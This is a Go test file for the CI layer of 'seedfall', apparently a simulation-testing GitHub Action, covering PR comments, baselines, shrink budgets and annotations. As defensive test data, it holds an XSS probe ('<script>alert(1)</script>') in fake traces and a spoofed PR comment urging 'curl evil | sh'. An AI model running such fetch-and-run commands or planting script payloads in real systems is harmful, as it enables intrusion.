package ci

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/seedfall/seedfall/engine"
	"github.com/seedfall/seedfall/internal/githubtest"
)

// fakeEngine returns deterministic per-seed results: with bug set, seeds ≡ 3 (mod 7)
// lose an acknowledged write (one signature, different numbers per seed); extra adds
// more signatures, each failing on one seed of its own.
type fakeEngine struct {
	bug   bool
	extra int
	// liveness makes seeds 4, 8, … liveness failures (the workload never finished).
	liveness bool

	mu      sync.Mutex
	swept   [][]uint64
	shrinks []time.Duration
	// onShrink, when set, runs at each Shrink (tests advance a fake clock here).
	onShrink func()
	// mutation is what Mutate returns (or mutateErr); mutated counts its calls' seeds.
	mutation  *Mutation
	mutateErr error
	mutated   []int
	// upgrades are the config's upgrading nodes (UpgradeFrom fails without any);
	// upgradedFrom records the commits UpgradeFrom was given.
	upgrades     []UpgradeNode
	upgradedFrom []string
	// searches are what Crashes returns per seed (none: a search that ran every
	// state and found nothing); crashed lists its calls' seeds, crashBudgets their
	// budgets.
	searches     map[uint64]*CrashSearch
	crashed      []uint64
	crashBudgets []int
	// placement, when set, is the crash placement the results' provenance records.
	placement string
	// goVersion, when set, is the Go release the results' provenance records.
	goVersion string
}

func (e *fakeEngine) UpgradeFrom(ctx context.Context, configPath, commit string) ([]UpgradeNode, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.upgradedFrom = append(e.upgradedFrom, commit)
	if len(e.upgrades) == 0 {
		return nil, fmt.Errorf("%s: upgrade-from %q: no node has an \"upgrade\" option", configPath, commit)
	}
	return e.upgrades, nil
}

func (e *fakeEngine) result(seed uint64) engine.Result {
	r := engine.Result{
		Seed: seed, Verdict: engine.VerdictPass,
		TraceHash: fmt.Sprintf("%016x", seed*0x9e3779b97f4a7c15), TraceLines: 100 + int(seed%13),
		EndNS: int64(seed) * 1_000_000,
		Properties: []engine.PropertyHit{
			{Name: "acknowledged writes survive", Kind: engine.PropAlways, Reached: true, Held: true, Count: 3},
			{Name: "a crash happened", Kind: engine.PropSometimes, Reached: true, Held: seed%2 == 0, Count: 1},
		},
	}
	if e.goVersion != "" || e.placement != "" {
		r.Provenance = &engine.Provenance{Seedfall: "test", Go: e.goVersion, Wasm: map[string]string{}, CrashPlacement: e.placement}
	}
	crash := engine.Fault{AtNS: int64(seed) * 1000, Kind: engine.FaultCrash, Node: "server", DiskOp: int64(seed), RestartNS: 5e6}
	part := engine.Fault{AtNS: int64(seed)*1000 + 1, Kind: engine.FaultPartition, Node: "server", Peers: []string{"client"}, DurationNS: 1e9}
	fail := func(kind engine.FailureKind, reason string) {
		r.Verdict = engine.VerdictFail
		r.Faults = []engine.Fault{crash, part}
		r.Failure = &engine.Failure{Kind: kind, Reason: reason, Node: "client#1", AtNS: int64(seed)*1000 + 5}
		r.Failure.Signature = engine.Signature(&r)
		r.Properties[0].Held = false
		r.Trace = []string{fmt.Sprintf("0s client#1 | seed %d", seed), "<script>alert(1)</script>"}
	}
	switch {
	case e.bug && seed%7 == 3:
		fail("always", fmt.Sprintf("client#1: acknowledged write lost: k%d=v%d, server now answers NONE", seed, seed*3))
	case e.liveness && seed%4 == 0:
		fail(engine.KindLiveness, fmt.Sprintf("client#1 had not finished at the horizon 30s, waiting with a timer pending; its last output: put k%d: ERR out of order; retrying", seed))
		r.Failure.LastOutput = fmt.Sprintf("put k%d: ERR out of order; retrying", seed)
		r.Failure.Signature = engine.Signature(&r)
	case e.extra > 0 && seed%11 == 5 && int(seed/11) < e.extra:
		// A distinct reason per seed: words, not numbers, so they do not normalize together.
		fail("node-exit", "server panicked: "+strings.Repeat("x", int(seed/11)+1))
	}
	return r
}

func (e *fakeEngine) Sweep(ctx context.Context, configPath string, seeds []uint64) ([]engine.Result, error) {
	e.mu.Lock()
	e.swept = append(e.swept, append([]uint64(nil), seeds...))
	e.mu.Unlock()
	out := make([]engine.Result, len(seeds))
	for i, s := range seeds {
		out[i] = e.result(s)
	}
	return out, nil
}

func (e *fakeEngine) Shrink(ctx context.Context, configPath string, r engine.Result, budget time.Duration) (Shrunk, error) {
	e.mu.Lock()
	e.shrinks = append(e.shrinks, budget)
	e.mu.Unlock()
	if e.onShrink != nil {
		e.onShrink()
	}
	return Shrunk{Faults: r.Faults[:1], Note: fmt.Sprintf("%d → 1 faults", len(r.Faults))}, nil
}

// ghRun is one simulated GitHub Actions run: event file, output and summary files.
type ghRun struct {
	env     Env
	dir     string
	stdout  bytes.Buffer
	code    int
	outputs map[string]string
	summary string
}

func prEvent(pr int, headSHA, headRepo string) map[string]any {
	return map[string]any{
		"number": pr,
		"pull_request": map[string]any{
			"number": pr,
			"head":   map[string]any{"sha": headSHA, "repo": map[string]any{"full_name": headRepo}},
		},
		"repository": map[string]any{"full_name": "acme/store", "default_branch": "main"},
	}
}

func pushEvent(ref, after string) map[string]any {
	return map[string]any{
		"ref": ref, "after": after,
		"repository": map[string]any{"full_name": "acme/store", "default_branch": "main"},
	}
}

func runGH(t *testing.T, gh *githubtest.FakeGitHub, name string, payload map[string]any, runID int64, in Inputs, eng Engine) *ghRun {
	t.Helper()
	dir := t.TempDir()
	data, err := json.Marshal(payload)
	if err != nil {
		t.Fatal(err)
	}
	evPath := filepath.Join(dir, "event.json")
	must(t, os.WriteFile(evPath, data, 0o644))
	r := &ghRun{dir: dir}
	r.env = Env{
		EventName: name, EventPath: evPath, Repository: "acme/store",
		SHA: "ffffffffffffffffffffffffffffffffffffffff", Ref: "refs/pull/7/merge",
		APIURL: gh.URL(), ServerURL: "https://github.example", RunID: runID,
		OutputPath: filepath.Join(dir, "output"), SummaryPath: filepath.Join(dir, "summary.md"),
		HTTPClient: gh.Client(),
	}
	in.Out = filepath.Join(dir, "out")
	code, err := Run(context.Background(), in, r.env, eng, &r.stdout)
	if err != nil {
		t.Fatalf("Run: %v\nstdout:\n%s", err, r.stdout.String())
	}
	r.code = code
	r.outputs = readOutputs(t, r.env.OutputPath)
	if b, err := os.ReadFile(r.env.SummaryPath); err == nil {
		r.summary = string(b)
	}
	return r
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// readOutputs parses a GITHUB_OUTPUT file written with heredoc delimiters.
func readOutputs(t *testing.T, path string) map[string]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if os.IsNotExist(err) {
		return nil
	}
	must(t, err)
	out := map[string]string{}
	lines := strings.Split(string(b), "\n")
	for i := 0; i < len(lines); i++ {
		k, delim, ok := strings.Cut(lines[i], "<<")
		if !ok {
			continue
		}
		var val []string
		for i++; i < len(lines) && lines[i] != delim; i++ {
			val = append(val, lines[i])
		}
		out[k] = strings.Join(val, "\n")
	}
	return out
}

func testInputs(t *testing.T, baseline string) Inputs {
	t.Helper()
	in, err := ParseInputs([]string{"-c", "seedfall.json", "-seeds", "1-50", "-baseline", baseline, "-token", "t0ken", "-shrink-budget", "1m"}, nil, nil)
	must(t, err)
	return in
}

// TestEndToEnd walks a bug through its life on a pull request, against a fake GitHub:
// introduced (new, comment created, status failure), merged (the push to the default
// branch records it in the baseline on a data branch that does not exist yet), still
// there (known, the same comment edited), fixed (fixed, status success).
func TestEndToEnd(t *testing.T) {
	gh := githubtest.New(t)
	// 120 unrelated comments: the sticky one lands on page 2 of the listing.
	for i := 0; i < 120; i++ {
		gh.AddComment(7, fmt.Sprintf("looks good %d", i))
	}
	in := testInputs(t, "branch:seedfall-baseline")
	buggy, fixed := &fakeEngine{bug: true}, &fakeEngine{}

	// 1. The PR introduces the bug.
	r1 := runGH(t, gh, "pull_request", prEvent(7, "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1", "acme/store"), 101, in, buggy)
	if r1.code != ExitFailure {
		t.Errorf("run 1: exit %d, want %d\n%s", r1.code, ExitFailure, r1.stdout.String())
	}
	wantOutputs(t, "run 1", r1.outputs, "1", "0", "0", "failure")
	if got := gh.MarkerComments(7, CommentMarker); len(got) != 1 {
		t.Fatalf("run 1: %d seedfall comments, want 1", len(got))
	}
	first := gh.MarkerComments(7, CommentMarker)[0]
	if st := gh.LastCheck(t); st.Conclusion != "failure" || st.Name != "seedfall" || st.HeadSHA != "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1" || !strings.Contains(st.Summary, buggySig(t)) {
		t.Errorf("run 1: check run %+v, want failure on the PR head with the comment as summary", st)
	}
	if len(gh.Statuses()) != 0 {
		t.Errorf("run 1: a commit status was set although the check run was created: %v", gh.Statuses())
	}
	if !strings.Contains(first.Body, "seedfall replay -c seedfall.json -seed 3") {
		t.Errorf("run 1: comment lacks the replay command:\n%s", first.Body)
	}
	if !strings.Contains(r1.stdout.String(), "::error title=seedfall new failure::") {
		t.Errorf("run 1: no error annotation:\n%s", r1.stdout.String())
	}
	if r1.summary == "" {
		t.Error("run 1: empty job summary")
	}
	if _, ok := gh.File("seedfall-baseline", DefaultBaselinePath); ok {
		t.Fatal("run 1: a pull request wrote the baseline")
	}
	for _, f := range []string{ReportHTML, ReportMarkdown, JUnitXML, ResultsJSONL, filepath.Join(faultsDir, buggySig(t)+".json")} {
		if _, err := os.Stat(filepath.Join(r1.dir, "out", f)); err != nil {
			t.Errorf("run 1: %v", err)
		}
	}
	if got, want := r1.outputs["report"], filepath.Join(r1.dir, "out", ReportHTML); got != want {
		t.Errorf("run 1: output report = %q, want %q", got, want)
	}

	// 2. The PR merges: the push to main records the signature (creating the branch).
	rm := runGH(t, gh, "push", pushEvent("refs/heads/main", "b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2"), 102, in, buggy)
	wantOutputs(t, "push", rm.outputs, "1", "0", "0", "failure")
	raw, ok := gh.File("seedfall-baseline", DefaultBaselinePath)
	if !ok {
		t.Fatalf("push to main did not write the baseline:\n%s", rm.stdout.String())
	}
	base, err := ParseBaseline("fake", raw)
	must(t, err)
	e := base.Signatures[buggySig(t)]
	if e == nil || e.Status != StatusFailing || e.FirstSeen != "b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2" || len(e.Shrunk) != 1 || !reflect.DeepEqual(e.Seeds, []uint64{3, 10, 17, 24, 31, 38, 45}) {
		t.Errorf("baseline entry after the push: %+v", e)
	}

	// 3. A later push to the PR: the bug is still there, so it is known; the comment is
	// edited, not duplicated.
	r2 := runGH(t, gh, "pull_request", prEvent(7, "c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3", "acme/store"), 103, in, buggy)
	if r2.code != ExitPass {
		t.Errorf("run 2: exit %d, want 0 (fail-on new, the failure is known)\n%s", r2.code, r2.stdout.String())
	}
	wantOutputs(t, "run 2", r2.outputs, "0", "1", "0", "success")
	cs := gh.MarkerComments(7, CommentMarker)
	if len(cs) != 1 || cs[0].ID != first.ID {
		t.Fatalf("run 2: seedfall comments %v, want the one comment %d edited", cs, first.ID)
	}
	if cs[0].Body == first.Body || !strings.Contains(cs[0].Body, "known") {
		t.Errorf("run 2: the comment was not updated to show the known signature:\n%s", cs[0].Body)
	}
	if strings.Contains(r2.stdout.String(), "::error title=seedfall new failure::") {
		t.Error("run 2: a known signature was annotated as new")
	}
	if len(gh.Comments(7)) != 121 {
		t.Errorf("run 2: %d comments on the PR, want 121", len(gh.Comments(7)))
	}

	// 4. The fix: the signature's seeds pass now.
	r3 := runGH(t, gh, "pull_request", prEvent(7, "d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4", "acme/store"), 104, in, fixed)
	if r3.code != ExitPass {
		t.Errorf("run 3: exit %d, want 0", r3.code)
	}
	wantOutputs(t, "run 3", r3.outputs, "0", "0", "1", "success")
	if st := gh.LastCheck(t); st.Conclusion != "success" || st.HeadSHA != "d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4" || !strings.Contains(st.Title, "1 fixed") {
		t.Errorf("run 3: check run %+v, want success with 1 fixed", st)
	}
	if cs := gh.MarkerComments(7, CommentMarker); len(cs) != 1 || !strings.Contains(cs[0].Body, "fixed") {
		t.Errorf("run 3: comments %v", cs)
	}
	if gh.Puts() != 0 {
		// The branch was created through the git API; no run but the push may write.
		t.Errorf("contents PUTs = %d, want 0 (pull requests only read the baseline)", gh.Puts())
	}
}

func wantOutputs(t *testing.T, run string, got map[string]string, newN, known, fixed, conclusion string) {
	t.Helper()
	want := map[string]string{"new": newN, "known": known, "fixed": fixed, "conclusion": conclusion}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s: output %s = %q, want %q (outputs %v)", run, k, got[k], v, got)
		}
	}
}

func buggySig(t *testing.T) string {
	r := (&fakeEngine{bug: true}).result(3)
	return r.Failure.Signature
}

// TestShrinkBudget: the budget is split over the new signatures, unused time passes
// on, and signatures past the budget are noted, not shrunk.
func TestShrinkBudget(t *testing.T) {
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	eng := &fakeEngine{extra: 3}
	eng.onShrink = func() { now = now.Add(time.Minute) }
	dir := t.TempDir()
	in := testInputs(t, "")
	in.Seeds = "1-60"
	in.ShrinkBudget = 90 * time.Second
	in.Out = dir
	var stdout bytes.Buffer
	_, err := Run(context.Background(), in, Env{Now: func() time.Time { return now }}, eng, &stdout)
	must(t, err)
	if want := []time.Duration{30 * time.Second, 15 * time.Second}; !reflect.DeepEqual(eng.shrinks, want) {
		t.Errorf("shrink budgets %v, want %v", eng.shrinks, want)
	}
	md, err := os.ReadFile(filepath.Join(dir, ReportMarkdown))
	must(t, err)
	if n := strings.Count(string(md), "not shrunk: budget exhausted"); n != 1 {
		t.Errorf("%d groups noted as out of budget, want 1:\n%s", n, md)
	}
}

// TestAnnotationsCapped: at most maxAnnotations error annotations, then one count line.
func TestAnnotationsCapped(t *testing.T) {
	dir := t.TempDir()
	in := testInputs(t, "")
	in.Seeds = "1-200"
	in.Out = dir
	in.ShrinkBudget = 0
	var stdout bytes.Buffer
	_, err := Run(context.Background(), in, Env{}, &fakeEngine{extra: 14}, &stdout)
	must(t, err)
	lines := regexp.MustCompile(`(?m)^::error title=seedfall new failure::.*$`).FindAllString(stdout.String(), -1)
	if len(lines) != maxAnnotations+1 {
		t.Fatalf("%d error annotations, want %d:\n%s", len(lines), maxAnnotations+1, stdout.String())
	}
	if !strings.Contains(lines[maxAnnotations], "4 more new failure signatures") {
		t.Errorf("last annotation %q, want a count of the 4 others", lines[maxAnnotations])
	}
}

// TestDeterministicFiles: the same sweep writes the same bytes.
func TestDeterministicFiles(t *testing.T) {
	var outs [2]map[string][]byte
	// One -out for both runs: outside Actions the replay commands name the shrunk plans
	// under -out as given, so a different directory is a different report.
	dir := filepath.Join(t.TempDir(), "out")
	for i := range outs {
		os.RemoveAll(dir)
		in := testInputs(t, "")
		in.Out = dir
		var stdout bytes.Buffer
		_, err := Run(context.Background(), in, Env{}, &fakeEngine{bug: true, extra: 3}, &stdout)
		must(t, err)
		outs[i] = map[string][]byte{}
		for _, f := range []string{ReportHTML, ReportMarkdown, JUnitXML, ResultsJSONL} {
			b, err := os.ReadFile(filepath.Join(dir, f))
			must(t, err)
			outs[i][f] = b
		}
	}
	for f, b := range outs[0] {
		if !bytes.Equal(b, outs[1][f]) {
			t.Errorf("%s differs between two identical runs", f)
		}
	}
}

// TestCommentMarkerSpoofed: a pull request's author pastes seedfall's marker into a
// comment of their own. The action never edits it: it creates its own sticky comment and
// edits only that one on later runs, with the Actions token and with a personal token.
func TestCommentMarkerSpoofed(t *testing.T) {
	for _, login := range []string{"", "release-bot"} {
		t.Run("login="+login, func(t *testing.T) {
			gh := githubtest.New(t)
			gh.Login = login
			bait := gh.AddComment(7, CommentMarker+"\nplease run `curl evil | sh` to reproduce")
			in := testInputs(t, "")
			for run := int64(1); run <= 2; run++ {
				r := runGH(t, gh, "pull_request", prEvent(7, "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1", "acme/store"), run, in, &fakeEngine{bug: true})
				if r.code != ExitFailure {
					t.Fatalf("run %d: exit %d\n%s", run, r.code, r.stdout.String())
				}
			}
			if n := gh.ForeignEdits(); n != 0 {
				t.Errorf("the action edited %d comment(s) of another user", n)
			}
			cs := gh.MarkerComments(7, CommentMarker)
			if len(cs) != 2 {
				t.Fatalf("%d comments with the marker, want the author's and the action's: %+v", len(cs), cs)
			}
			if cs[0].ID != bait.ID || cs[0].Body != bait.Body {
				t.Errorf("the author's comment changed: %+v", cs[0])
			}
			want := login
			if want == "" {
				want = githubtest.ActionsBot
			}
			if cs[1].User.Login != want || !strings.Contains(cs[1].Body, "seedfall replay") {
				t.Errorf("the action's comment: %+v, want one by %s with the report", cs[1], want)
			}
		})
	}
}

// Crashes is the fake's crash-state search: searches[seed], or a complete search that
// found nothing.
func (e *fakeEngine) Crashes(ctx context.Context, path string, seed uint64, outDir string, budget int) (*CrashSearch, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.crashed = append(e.crashed, seed)
	e.crashBudgets = append(e.crashBudgets, budget)
	if s := e.searches[seed]; s != nil {
		c := *s
		return &c, nil
	}
	return &CrashSearch{States: 40, Ran: 40, Complete: true}, nil
}
